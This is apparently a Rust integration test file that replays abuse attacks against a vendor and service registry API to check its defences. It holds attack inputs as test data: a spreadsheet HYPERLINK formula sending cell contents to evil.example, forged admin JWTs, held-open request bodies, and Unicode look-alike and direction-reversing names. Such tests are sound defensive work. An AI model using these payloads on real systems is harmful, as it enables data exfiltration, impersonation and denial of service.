//! Abuse resistance (issue 11): each test replays an attack over HTTP against the running
//! registry and checks that it held. Row numbers refer to the issue's table.

use std::time::{Duration, Instant};

use feide_registry::domain::auth::ClientRole;
use feide_registry::http::history::ChangeFeed;
use feide_registry::http::views::VendorView;
use reqwest::Method;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::helpers::views::OAuthError;
use crate::helpers::{
    new_service_introducing, spawn, spawn_with, Answer, Engine, IfMatch, TestApp, TEST_KEY,
};

/// This process's resident memory, in MiB (the registry under test runs in it).
fn rss_mib() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let kib: u64 = status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .unwrap();
    kib / 1024
}

/// Row 1: 64 concurrent token requests with random unknown client ids. Memory stays put, the
/// registry stays live, and a real client still gets its token during the spray.
async fn a_token_spray_takes_no_memory_and_starves_no_one(engine: Engine) {
    let app = spawn_with(engine, |o| o.workers = 2).await;
    let (id, secret) = app.create_client(ClientRole::Vendor, Some("trygg-trafikk"));
    assert_eq!(app.token_request(&id, &secret).await.status(), 200);
    let before = rss_mib();
    let stop = Instant::now() + Duration::from_secs(3);
    let mut sprayers = Vec::new();
    for n in 0..64 {
        let sprayer = app.anonymous();
        sprayers.push(tokio::spawn(async move {
            let mut statuses = std::collections::BTreeSet::new();
            let mut i = 0u64;
            while Instant::now() < stop {
                i += 1;
                let id = format!("random-{n}-{i}");
                let res = sprayer.token_request(&id, "x").await;
                statuses.insert(res.status().as_u16());
            }
            statuses
        }));
    }
    let mut health = Vec::new();
    let mut right = Vec::new();
    while Instant::now() < stop {
        health.push(app.get("/healthz").await.status().as_u16());
        right.push(app.token_request(&id, &secret).await.status().as_u16());
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let mut seen = std::collections::BTreeSet::new();
    for s in sprayers {
        seen.extend(s.await.unwrap());
    }
    let after = rss_mib();
    assert!(seen.iter().all(|s| [401, 429].contains(s)), "{seen:?}");
    assert!(
        !health.is_empty() && health.iter().all(|s| *s == 200),
        "{health:?}"
    );
    assert!(
        right.iter().all(|s| *s == 200),
        "the real client: {right:?}"
    );
    assert!(
        after < before + 64,
        "resident memory grew from {before} to {after} MiB"
    );
}

/// Row 2: unauthenticated writes in a loop. They are tallied (one row per source and window,
/// with their number), not one row each, and counted on /metrics.
async fn anonymous_refusals_are_tallied_not_written_one_by_one(engine: Engine) {
    let app = spawn_with(engine, |o| o.refusal_window = Duration::from_secs(1)).await;
    let attempts = 300;
    let mut tasks = Vec::new();
    for _ in 0..6 {
        let anonymous = app.anonymous();
        tasks.push(tokio::spawn(async move {
            for _ in 0..attempts / 6 {
                let res = anonymous
                    .patch("/api/v1/services/kikora", IfMatch::Absent, json!({}))
                    .await;
                assert_eq!(res.status(), 401);
            }
        }));
    }
    let started = Instant::now();
    for t in tasks {
        t.await.unwrap();
    }
    let windows = started.elapsed().as_secs() as usize + 2;
    let admin = app.admin().await;
    let rows = admin
        .audited_attempts("action=service.patch", attempts)
        .await;
    let total: i64 = rows.iter().map(|r| i64::from(r.count)).sum();
    assert_eq!(total, attempts, "every attempt is accounted for");
    assert!(
        rows.len() <= 2 * windows,
        "{} rows for {attempts} attempts over {windows} windows",
        rows.len()
    );
    assert!(rows
        .iter()
        .all(|r| r.source.as_deref() == Some("127.0.0.1")));
    let metrics = app.get("/metrics").await;
    let metrics = metrics.text();
    let refused: i64 = metrics
        .lines()
        .find_map(|l| l.strip_prefix("feide_registry_refusals_total{outcome=\"401\"} "))
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    assert!(refused >= attempts, "{metrics}");
}

/// Row 2, the cap: the audit log keeps at most its configured number of rows, oldest removed.
async fn the_audit_log_is_capped_oldest_first(engine: Engine) {
    let app = spawn_with(engine, |o| o.audit.max_rows = 10).await;
    let other = app.vendor("eldur-learning").await;
    let path = "/api/v1/services/sykkeldyktig";
    let etag = app.etag(path).await;
    for i in 0..25 {
        let body = json!({ "description": format!("forsøk {i}") });
        let res = other.patch(path, &etag, body).await;
        assert_eq!(res.status(), 403, "another vendor's service");
    }
    let admin = app.admin().await;
    let deadline = Instant::now() + Duration::from_secs(25);
    let rows = loop {
        let rows = admin.audit("").await;
        if rows.len() <= 10 || Instant::now() > deadline {
            break rows;
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    };
    assert!(rows.len() <= 10, "{} rows kept", rows.len());
    let cursors: Vec<i64> = rows.iter().map(|r| r.cursor.parse().unwrap()).collect();
    let newest = *cursors.iter().max().unwrap();
    assert!(
        cursors.iter().all(|c| *c > newest - 10),
        "the newest are kept: {cursors:?}"
    );
}

/// Row 3: a long free-text query is refused at once; a repeated word costs nothing.
async fn free_text_is_bounded(app: TestApp) {
    let long = "e ".repeat(2000);
    let p = app
        .problem_en(&format!("/api/v1/services?q={}", long.trim()), 400)
        .await;
    assert_eq!(p.errors[0].pointer, "q");
    assert!(p.errors[0].detail.contains("200 characters"), "{p:?}");
    let many = "a b c d e f g h i j k";
    let p = app
        .problem_en(&format!("/api/v1/services?q={many}"), 400)
        .await;
    assert!(p.errors[0].detail.contains("10 distinct words"), "{p:?}");
    // the same word 99 times finds what the word finds once
    let once = app.ids("/api/v1/services?q=kikora").await;
    let repeated = app
        .ids(&format!("/api/v1/services?q={}", "kikora+".repeat(19)))
        .await;
    assert_eq!(once, ["kikora"]);
    assert_eq!(repeated, once);
}

/// Row 5: a query of thousands of bad parameters gets a short 400 naming each once, at most 20.
async fn a_flood_of_bad_parameters_gets_a_short_answer(app: TestApp) {
    let z = vec!["z"; 20_000].join("&");
    let res = app.get(&format!("/api/v1/services?{z}")).await;
    assert_eq!(res.status(), 400);
    assert!(res.body.len() < 4096, "{} bytes", res.body.len());
    let p = res.problem();
    assert_eq!(p.errors.len(), 1, "{p:?}");
    assert_eq!(p.errors[0].pointer, "z");

    let distinct: Vec<String> = (0..45).map(|i| format!("p{i}=1")).collect();
    let p = app
        .problem(&format!("/api/v1/services?{}", distinct.join("&")), 400)
        .await;
    assert_eq!(p.errors.len(), 20);
    let detail = &p.detail;
    assert!(
        detail.contains("45") && detail.contains("25 til"),
        "{detail}"
    );
}

/// Row 6: headers sent, then a body that never comes: 408 after the deadline, and the
/// connection closed.
async fn a_body_that_never_comes_times_out(engine: Engine) {
    let app = spawn_with(engine, |o| o.body_timeout = Duration::from_secs(1)).await;
    let addr = app.base().trim_start_matches("http://").to_owned();
    let mut conn = tokio::net::TcpStream::connect(&addr).await.unwrap();
    conn.write_all(
        b"POST /api/v1/auth/token HTTP/1.1\r\nHost: registry\r\n\
          Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 400\r\n\r\ngrant_type=",
    )
    .await
    .unwrap();
    let started = Instant::now();
    let mut answer = Vec::new();
    let read = tokio::time::timeout(Duration::from_secs(15), conn.read_to_end(&mut answer)).await;
    assert!(read.is_ok(), "the connection was left open");
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(started.elapsed() < Duration::from_secs(10));

    // many at once: the registry stays live, and every one of them is answered and closed
    let mut held = Vec::new();
    for _ in 0..200 {
        let mut c = tokio::net::TcpStream::connect(&addr).await.unwrap();
        c.write_all(
            b"POST /api/v1/auth/token HTTP/1.1\r\nHost: registry\r\n\
              Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 400\r\n\r\ng",
        )
        .await
        .unwrap();
        held.push(c);
    }
    assert_eq!(app.get("/healthz").await.status(), 200);
    for mut c in held {
        let mut answer = Vec::new();
        let read = tokio::time::timeout(Duration::from_secs(15), c.read_to_end(&mut answer)).await;
        assert!(read.is_ok(), "a connection was left open");
        assert!(answer.starts_with(b"HTTP/1.1 408"));
    }
}

/// Row 7: a formula written by a vendor reaches a spreadsheet as text, in a file download.
async fn csv_cells_cannot_run_formulas(app: TestApp) {
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"Klikk")"#;
    let vendor = app.vendor("trygg-trafikk").await;
    let path = "/api/v1/vendors/trygg-trafikk";
    let etag = app.etag(path).await;
    let res = vendor.patch(path, &etag, json!({"name": formula})).await;
    assert_eq!(res.status(), 200);
    let service = "/api/v1/services/sykkeldyktig";
    let etag = app.etag(service).await;
    let attributes = json!({"attributes": [{"name": "cn", "justification": formula}]});
    let res = vendor.patch(service, &etag, attributes).await;
    assert_eq!(res.status(), 200);
    for (list, file) in [
        ("/api/v1/vendors", "vendors.csv"),
        ("/api/v1/services", "services.csv"),
        (
            "/api/v1/compare?services=sykkeldyktig,kikora",
            "compare.csv",
        ),
    ] {
        let res = Answer::of(app.request(Method::GET, list).header("Accept", "text/csv")).await;
        assert_eq!(res.status(), 200, "{list}");
        assert_eq!(
            res.header("content-disposition"),
            Some(format!("attachment; filename=\"{file}\"").as_str()),
            "{list}"
        );
        let text = res.text();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(text.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect();
        assert!(
            cells.iter().any(|c| c == &format!("'{formula}")),
            "{list}: the name is kept, as text"
        );
        assert!(
            !cells
                .iter()
                .any(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
            "{list}: {cells:?}"
        );
    }
}

/// Row 8: two vendors introduce the same new sub-processor at once: one wins, the other gets a
/// 409 naming it, and the entry shows in the change feed.
async fn two_writers_cannot_both_define_a_shared_sub_processor(engine: Engine) {
    let app = spawn(engine).await;
    let a = app.vendor("trygg-trafikk").await;
    let admin = app.admin().await;
    for round in 0..8 {
        let sub = format!("delt-vert-{round}");
        let (x, y) = (new_service_introducing(&format!("a-{round}"), &sub), {
            let mut d = new_service_introducing(&format!("b-{round}"), &sub);
            d["new_sub_processors"][0]["name"] = json!(format!("Annen vert {round}"));
            d
        });
        let (ra, rb) = tokio::join!(
            a.post("/api/v1/services", &x),
            admin.post("/api/v1/services", &y),
        );
        let mut statuses = [ra.status().as_u16(), rb.status().as_u16()];
        let loser = if statuses[0] == 201 { rb } else { ra };
        statuses.sort_unstable();
        assert!(
            statuses == [201, 409] || statuses == [201, 422],
            "round {round}: {statuses:?}"
        );
        let p = loser.problem();
        assert!(
            format!("{} {:?}", p.detail, p.errors).contains(&sub),
            "the refusal names the sub-processor: {p:?}"
        );
    }
    let feed: ChangeFeed = app.read("/api/v1/changes?limit=500").await;
    let created: Vec<&str> = feed
        .items
        .iter()
        .filter(|c| c.entity == "sub_processor" && c.id.starts_with("delt-vert-"))
        .map(|c| c.id.as_str())
        .collect();
    assert_eq!(created.len(), 8, "{created:?}");
    assert!(created.contains(&"delt-vert-0"));
}

/// A valid organisation number (MOD11) from eight digits.
fn org_number(first8: u32) -> String {
    let digits: Vec<u32> = format!("{first8:08}")
        .bytes()
        .map(|b| u32::from(b - b'0'))
        .collect();
    let sum: u32 = [3, 2, 7, 6, 5, 4, 3, 2]
        .iter()
        .zip(&digits)
        .map(|(w, d)| w * d)
        .sum();
    match 11 - sum % 11 {
        10 => org_number(first8 + 1),
        11 => format!("{first8:08}0"),
        c => format!("{first8:08}{c}"),
    }
}

/// Rows 9 and 10: organisation numbers are unique in the database, and only administrators set
/// them.
async fn organisation_numbers_are_unique_and_set_by_administrators(engine: Engine) {
    let app = spawn(engine).await;
    let own = app.vendor("trygg-trafikk").await;
    let path = "/api/v1/vendors/trygg-trafikk";
    let etag = app.etag(path).await;
    let res = own
        .patch(path, &etag, json!({"org_number": org_number(81_000_000)}))
        .await;
    assert_eq!(res.status(), 403, "a vendor may not change its number");
    let vendor: VendorView = app.read(path).await;
    assert_eq!(vendor.org_number.as_deref(), Some("970133410"));

    let admin = app.admin().await;
    for round in 0..6 {
        let org = org_number(82_000_000 + round * 17);
        let (ea, eb) = (
            app.etag("/api/v1/vendors/cerpus").await,
            app.etag("/api/v1/vendors/matematikksenteret").await,
        );
        let body = json!({ "org_number": org });
        let (ra, rb) = tokio::join!(
            admin.patch("/api/v1/vendors/cerpus", &ea, &body),
            admin.patch("/api/v1/vendors/matematikksenteret", &eb, &body),
        );
        let mut statuses = [ra.status().as_u16(), rb.status().as_u16()];
        statuses.sort_unstable();
        assert!(
            statuses == [200, 409] || statuses == [200, 422],
            "round {round}: {statuses:?}"
        );
        let holders = app.ids(&format!("/api/v1/vendors?org_number={org}")).await;
        assert_eq!(holders.len(), 1, "round {round}: {holders:?}");
    }
}

/// Row 11: names that hide or fake what they show are refused, naming the look-alike.
async fn names_must_show_what_they_are(app: TestApp) {
    let vendor = app.vendor("trygg-trafikk").await;
    let path = "/api/v1/vendors/trygg-trafikk";
    for (name, expect) in [
        // in bokmål, the default language
        ("Trygg \u{202E}kiffarT", "snur skriveretningen"),
        ("\u{200B}", "usynlige"),
        ("Trygg\u{200B}Trafikk", "usynlige"),
        ("...", "bokstav eller et siffer"),
        // Cyrillic е and о in another vendor's name
        ("C\u{0435}rpus Techn\u{043E}logy AS", "`cerpus`"),
    ] {
        let etag = app.etag(path).await;
        let res = vendor.patch(path, &etag, json!({ "name": name })).await;
        assert_eq!(res.status(), 422, "{name:?}");
        let p = res.problem();
        assert_eq!(p.errors[0].pointer, "/name", "{p:?}");
        assert!(p.errors[0].detail.contains(expect), "{name:?}: {p:?}");
    }
    assert_eq!(app.read::<VendorView>(path).await.name, "Trygg Trafikk");
    // a new sub-processor passed off as a known one
    let mut doc = new_service_introducing("falsk-sky", "falsk-sky");
    doc["new_sub_processors"][0]["name"] = json!("Micr\u{043E}soft Azure");
    let res = vendor.post("/api/v1/services", &doc).await;
    assert_eq!(res.status(), 422);
    let p = res.problem();
    assert_eq!(p.errors[0].pointer, "/new_sub_processors/0/name");
    assert!(p.errors[0].detail.contains("microsoft-azure"), "{p:?}");
    // any text: a justification with a zero-width space
    let path = "/api/v1/services/sykkeldyktig";
    let etag = app.etag(path).await;
    let res = vendor
        .patch(
            path,
            &etag,
            json!({"description": "Sykkel\u{200B}opplæring"}),
        )
        .await;
    assert_eq!(res.status(), 422);
}

/// Row 12: a secret in the query string is refused, even with good credentials in the body.
async fn the_token_endpoint_refuses_query_strings(app: TestApp) {
    let (id, secret) = app.create_client(ClientRole::Vendor, Some("trygg-trafikk"));
    let res = Answer::of(
        app.request(
            Method::POST,
            &format!("/api/v1/auth/token?client_secret={secret}"),
        )
        .form(&[
            ("grant_type", "client_credentials"),
            ("client_id", id.as_str()),
            ("client_secret", secret.as_str()),
        ]),
    )
    .await;
    assert_eq!(res.status(), 400);
    assert_eq!(res.json::<OAuthError>().error, "invalid_request");
    assert!(res.json::<Value>().get("access_token").is_none());
}

/// Row 13: wrong secrets from one source do not lock the client out, and each refused attempt
/// is audited with the client id it named.
async fn wrong_secrets_do_not_lock_a_client_out(engine: Engine) {
    let app = spawn_with(engine, |o| {
        o.token_rate_per_minute = 6;
        o.refusal_window = Duration::from_secs(1);
    })
    .await;
    let (id, secret) = app.create_client(ClientRole::Vendor, Some("trygg-trafikk"));
    let mut statuses = Vec::new();
    for _ in 0..24 {
        statuses.push(app.token_request(&id, "wrong").await.status().as_u16());
    }
    assert_eq!(&statuses[..6], [401; 6]);
    assert!(statuses[6..].iter().all(|s| *s == 429), "{statuses:?}");
    assert_eq!(app.token_request(&id, &secret).await.status(), 200);
    let admin = app.admin().await;
    let rows = admin
        .audited_attempts(&format!("client_id={id}&action=token.issue"), 25)
        .await;
    let refused: i64 = rows
        .iter()
        .filter(|r| r.outcome != 200)
        .map(|r| i64::from(r.count))
        .sum();
    assert_eq!(refused, 24, "{rows:?}");
}

/// Row 14: tokens signed with the registry's key but with impossible times are refused, and
/// role and vendor come from the client record, not from the token.
async fn token_times_and_claims_are_checked(app: TestApp) {
    let (id, _) = app.create_client(ClientRole::Vendor, Some("trygg-trafikk"));
    let now = chrono::Utc::now().timestamp();
    let sign = |edit: &dyn Fn(&mut Value)| {
        let mut claims = json!({"iss": "feide-registry", "aud": "feide-registry", "sub": id,
            "iat": now, "exp": now + 300, "role": "vendor", "vendor": "trygg-trafikk"});
        edit(&mut claims);
        jsonwebtoken::encode(
            &jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256),
            &claims,
            &jsonwebtoken::EncodingKey::from_secret(TEST_KEY),
        )
        .unwrap()
    };
    let path = "/api/v1/services/sykkeldyktig";
    let patch = json!({"description": "Endret med et falskt token"});
    for (what, token) in [
        ("nbf an hour ahead", sign(&|c| c["nbf"] = json!(now + 3600))),
        (
            "exp far ahead",
            sign(&|c| c["exp"] = json!(now + 1_000_000_000)),
        ),
        ("iat in the future", sign(&|c| c["iat"] = json!(now + 600))),
    ] {
        let etag = app.etag(path).await;
        let res = app.bearer(token).patch(path, &etag, &patch).await;
        assert_eq!(res.status(), 401, "{what}");
    }
    // a vendor client's token claiming to be an administrator acts as the vendor it is
    let claims_admin = sign(&|c| {
        c["role"] = json!("admin");
        c["vendor"] = Value::Null;
    });
    let res = app
        .bearer(claims_admin)
        .post(
            "/api/v1/vendors",
            json!({"id": "ny-leverandor", "name": "Ny leverandør AS"}),
        )
        .await;
    assert_eq!(res.status(), 403);
    let claims_other = sign(&|c| c["vendor"] = json!("eldur-learning"));
    let kikora = "/api/v1/services/kikora";
    let etag = app.etag(kikora).await;
    let res = app.bearer(claims_other).patch(kikora, &etag, &patch).await;
    assert_eq!(res.status(), 403, "the vendor comes from the client record");
}

/// Row 17: safety headers on every answer, a strict policy on the docs, nothing cached that a
/// token fetched or a write answered.
async fn answers_carry_safety_headers(app: TestApp) {
    for path in [
        "/api/v1/services",
        "/openapi.json",
        "/no/such/path",
        "/docs/",
    ] {
        let res = app.get(path).await;
        assert_eq!(
            res.header("x-content-type-options"),
            Some("nosniff"),
            "{path}"
        );
        let csp = res.header("content-security-policy").unwrap();
        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
        assert!(
            !csp.contains("unsafe-eval") && !csp.contains("script-src *"),
            "{csp}"
        );
    }
    let admin = app.admin().await;
    let res = admin.get("/api/v1/audit").await;
    assert_eq!(res.header("cache-control"), Some("no-store"));
    let path = "/api/v1/services/sykkeldyktig";
    let etag = app.etag(path).await;
    let res = admin
        .patch(path, &etag, json!({"description": "Ny beskrivelse"}))
        .await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.header("cache-control"), Some("no-store"));
    // an anonymous PATCH with neither precondition nor body
    let res = Answer::of(app.request(Method::PATCH, path)).await;
    assert_eq!(res.header("cache-control"), Some("no-store"));
    // the database file (client secret hashes, audit) and its WAL are the owner's alone
    #[cfg(unix)]
    if !app.database_url.starts_with("postgres") {
        use std::os::unix::fs::PermissionsExt;
        for file in [
            app.database_url.clone(),
            format!("{}-wal", app.database_url),
        ] {
            let mode = std::fs::metadata(&file).unwrap().permissions().mode();
            assert_eq!(mode & 0o077, 0, "{file}: {mode:o}");
        }
    }
}

per_engine!(
    a_token_spray_takes_no_memory_and_starves_no_one,
    anonymous_refusals_are_tallied_not_written_one_by_one,
    the_audit_log_is_capped_oldest_first,
    a_body_that_never_comes_times_out,
    two_writers_cannot_both_define_a_shared_sub_processor,
    organisation_numbers_are_unique_and_set_by_administrators,
    wrong_secrets_do_not_lock_a_client_out,
);

on_both_engines!(
    free_text_is_bounded,
    a_flood_of_bad_parameters_gets_a_short_answer,
    csv_cells_cannot_run_formulas,
    names_must_show_what_they_are,
    the_token_endpoint_refuses_query_strings,
    token_times_and_claims_are_checked,
    answers_carry_safety_headers,
);
